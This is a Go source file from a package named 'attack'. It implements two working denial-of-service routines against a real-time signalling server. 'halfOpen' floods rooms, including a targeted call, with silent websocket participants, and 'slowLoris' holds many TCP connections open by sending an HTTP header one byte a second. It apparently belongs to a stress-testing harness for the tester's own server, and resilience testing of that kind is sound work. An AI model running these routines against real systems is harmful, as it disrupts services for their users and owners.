package attack

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/coder/websocket"
)

// halfOpen joins with as many participants as the scale says, 50 to a room, as fast as the server lets it: every
// twentieth comes to the attacked call. They answer nothing and stay until the end.
func halfOpen(ctx context.Context, t Target) (string, error) {
	const dialers = 16
	var all sync.WaitGroup
	var mu sync.Mutex
	var sockets []*websocket.Conn
	var next, refused atomic.Int64
	for range dialers {
		all.Go(func() {
			for ctx.Err() == nil {
				i := int(next.Add(1)) - 1
				if i >= t.Scale {
					return
				}
				room := fmt.Sprintf("half-%d", i/50)
				if i%20 == 0 {
					room = t.Room
				}
				socket, err := t.halfJoin(ctx, room, name(i))
				if err != nil {
					refused.Add(1)
					continue
				}
				mu.Lock()
				sockets = append(sockets, socket)
				mu.Unlock()
			}
		})
	}
	all.Wait()
	<-ctx.Done()
	said := fmt.Sprintf("%d joined, %d were refused", len(sockets), refused.Load())
	for _, socket := range sockets {
		_ = socket.CloseNow()
	}
	return said, nil
}

// halfJoin opens a signalling socket, as the dual clients do it, and says no more.
func (t Target) halfJoin(ctx context.Context, room, identity string) (*websocket.Conn, error) {
	token, err := t.Token(room, identity)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
	defer cancel()
	socket, _, err := websocket.Dial(ctx, t.URL+"/rtc?auto_subscribe=1&protocol=16&sdk=go&version=2.4.0&access_token="+token, nil)
	return socket, err
}

// slowLoris opens as many connections as the scale says and sends the header of a request on each, a byte a second.
func slowLoris(ctx context.Context, t Target) (string, error) {
	host := strings.TrimPrefix(t.URL, "ws://")
	const header = "GET / HTTP/1.1\r\nHost: example.org\r\nX-Slow: "
	var conns []net.Conn
	for range t.Scale {
		c, err := net.DialTimeout("tcp", host, 5*time.Second)
		if err != nil || ctx.Err() != nil {
			break
		}
		conns = append(conns, c)
		_, _ = c.Write([]byte(header))
	}
	cut := make([]bool, len(conns))
	for ended := false; !ended; {
		for i, c := range conns {
			if _, err := c.Write([]byte("x")); err != nil {
				cut[i] = true
			}
		}
		ended = !pause(ctx, time.Second)
	}
	gone := 0
	for i, c := range conns {
		_ = c.Close()
		if cut[i] {
			gone++
		}
	}
	return fmt.Sprintf("%d connections, of which the server cut %d", len(conns), gone), nil
}
